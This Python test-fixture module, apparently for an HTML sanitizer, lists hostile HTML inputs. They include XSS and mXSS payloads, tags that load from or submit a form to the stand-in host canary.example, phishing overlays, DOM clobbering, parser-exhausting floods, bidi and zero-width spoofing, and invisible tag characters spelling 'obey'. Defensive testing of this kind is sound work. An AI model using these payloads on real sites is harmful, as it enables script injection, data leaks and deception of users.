"""HTML parts that mean harm, each by one trick; written for these tests.

Those of `LOADING` and `RUNNING` would, in a page that lets them, load something
from canary.example or run a program that sets the title of the page to PWNED; those of `BREAKING`
want to break the reader itself: its time, its memory, its templates, its quotes.
"""

from __future__ import annotations

from collections.abc import Mapping

AWAY = "https://canary.example"
PROGRAM = "document.title='PWNED'"

RUNNING: Mapping[str, str] = {
    "script": f"<p>Hi<script>{PROGRAM}</script></p>",
    "img onerror": f'<img src=x onerror="{PROGRAM}">',
    "svg onload": f'<svg onload="{PROGRAM}"><circle r="9"/></svg>',
    "svg animate": f'<svg><animate onbegin="{PROGRAM}" attributeName=x dur=1s /></svg>',
    "details ontoggle": f'<details open ontoggle="{PROGRAM}">more</details>',
    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{PROGRAM}</script>"></iframe>',
    "javascript link": f'<a href="java&#9;script:{PROGRAM}">Look</a>',
    "data link": f'<a href="data:text/html,<script>{PROGRAM}</script>">Look</a>',
    "mXSS math": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={PROGRAM}&gt;">'
    ),
    "mXSS noscript": f'<noscript><p title="</noscript><img src=x onerror={PROGRAM}>">',
    "mXSS template": f'<svg></p><style><a id="</style><img src=1 onerror={PROGRAM}>">',
    "mXSS form": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PROGRAM}>"
    ),
    "comment end": f"<!--><img src=x onerror={PROGRAM}>-->",
    "comment bang": f"<!-- a --!><img src=x onerror={PROGRAM}> -->",
    "cdata": f"<svg><![CDATA[><img src=x onerror={PROGRAM}>]]></svg>",
    "split tag": f"<scr<script>ipt>{PROGRAM}</scr</script>ipt>",
    "title": f"<title><a title='</title><img src=x onerror={PROGRAM}>'></title>",
    "textarea": f"<textarea><p title='</textarea><img src=x onerror={PROGRAM}>'></textarea>",
    "plaintext": f"<plaintext><img src=x onerror={PROGRAM}>",
    "null": f"<scr\x00ipt>{PROGRAM}</scr\x00ipt><im\x00g src=x onerror={PROGRAM}>",
    "slash": f"<img/src=x/onerror={PROGRAM}><p/onclick={PROGRAM}>a",
    "quotes in a name": f"<p lang='\"><img src=x onerror={PROGRAM}>'>a</p>",
    "quotes in a target": f"<a href='https://a.example/\"><img src=x onerror={PROGRAM}>'>a</a>",
    "half a tag": f"<p>a<img src=x onerror={PROGRAM}",
}
LOADING: Mapping[str, str] = {
    "img": f'<img src="{AWAY}/a.gif">',
    "srcset": f'<img srcset="{AWAY}/a.gif 1x, {AWAY}/b.gif 2x">',
    "inline css url": f'<p style="background:url({AWAY}/a.gif)">Hi</p>',
    "css escapes": f'<p style="b\\61 ckground:u\\72l({AWAY}/a.gif);width:expression(1)">Hi</p>',
    "style tag": f"<style>@import url({AWAY}/a.css);</style><p>Hi</p>",
    "link css": f'<link rel=stylesheet href="{AWAY}/a.css">',
    "iframe": f'<iframe src="{AWAY}/"></iframe>',
    "object and embed": f'<object data="{AWAY}/a"></object><embed src="{AWAY}/b">',
    "video poster": f'<video poster="{AWAY}/a.gif" src="{AWAY}/b" autoplay></video>',
    "meta refresh": f'<meta http-equiv=refresh content="0;url={AWAY}/">',
    "form that sends itself": (
        f'<form id=f action="{AWAY}/"><input name=a><button autofocus onfocus="f.submit()">'
    ),
    "base": f'<base href="{AWAY}/"><a href="a">Look</a>',
    "background": f'<table background="{AWAY}/a.gif"><tr><td>Hi</td></tr></table>',
    "preload": f'<link rel=preload as=image href="{AWAY}/a.gif">',
    "svg image and use": f'<svg><image href="{AWAY}/a.gif"/><use href="{AWAY}/b.svg#c"/></svg>',
    "svg feImage": f'<svg><filter><feImage href="{AWAY}/a.gif"/></filter></svg>',
    "area": f'<map><area href="{AWAY}/" shape=default></map><img usemap=#m src="data:,">',
    "audio": f'<audio src="{AWAY}/a.mp3" autoplay></audio><track src="{AWAY}/b">',
}
COVERING: Mapping[str, str] = {
    "fixed overlay": '<div style="position:fixed;inset:0;background:red;z-index:9">Sign in</div>',
    "DOM clobbering": "<form id=document><input name=cookie id=body></form><p id=status name=top>",
    "dialog": "<dialog open>Sign in</dialog><p popover id=a>x</p><button popovertarget=a>b",
    "marquee": "<marquee>Sign in</marquee><blink>now</blink>",
    "slots": '<template shadowrootmode="open"><slot></slot></template><p slot=a part=b>x',
}
BREAKING: Mapping[str, str] = {
    "nested 20k": "<div>" * 20_000,
    "nested and ended 20k": "<b>" * 10_000 + "x" + "</b>" * 10_000,
    "misnested": "<b><div></b>" * 15_000,
    "ghosts of formatting": "".join(f"<div><b class=a{n}></div>" for n in range(8_000)),
    "open tags": "<a " * 60_000,
    "open comments": "<!--" * 50_000,
    "open declarations": "<![" * 50_000,
    "open quotes": "<a b='" * 30_000,
    "open scripts": "<script>" * 20_000,
    "ends only": "</div>" * 40_000,
    "tables": "<table><tr><td>" * 16_000,
    "marked section": "<![x]><p>seen</p>",
    "number of digits": "&#" + "9" * 20_000 + ";",
    "entities": "&amp" * 50_000,
    "blanks": "<a" + " " * 200_000,
    "long line": "x" * 200_000,
    "dollar braces": "<p>${Object.assign(window,{INJ:1}).INJ} ${</p>",
    "template braces": "<p>{{ self.__init__ }} {% raw %} #{1+1} <%= 1 %> {{{a}}}</p>",
    "python braces": "<p>{0.__class__} %s %(a)s {}</p>",
    "backslashes": "<p>\\u003cscript\\u003e \\x3c \\0 \\</p>",
    "bidi": "<p>pay \u202egro.knab\u202c \u2066now\u2069</p>",
    "tag characters": "<p>Hello" + "".join(chr(0xE0000 + ord(c)) for c in "obey") + "</p>",
    "zero width": "<p>p\u200ba\u200cy\u200d \u2060n\ufeffow so\xadft</p>",
    "combining flood": "<p>Z" + "\u0301" * 20_000 + "</p>",
    "nul and controls": "<p>a\x00b\x08c\x1b[31md\x7f\x9f</p>",
    "line separators": "<p>a\u2028b\u2029c\x0bd\x0ce\x85f</p>",
    "half a character": "<p>a\ud800b\udfffc</p>",
    "capital that shrinks": "\u0130" * 1_000 + "<SCRIPT>a</ScRiPt >b",
    "end of the document": "</body></html></iframe>\"'><p>after</p>",
    "attributes": "<p " + " ".join(f"a{n}=b" for n in range(20_000)) + ">x</p>",
    "too large": "<p>a</p>" * 40_000,
    "nothing": "",
    "only a sign": "<",
}
PAYLOADS: Mapping[str, str] = {**RUNNING, **LOADING, **COVERING, **BREAKING}
"""All of them, by name; the 26 kinds that browsers were measured with are among them."""
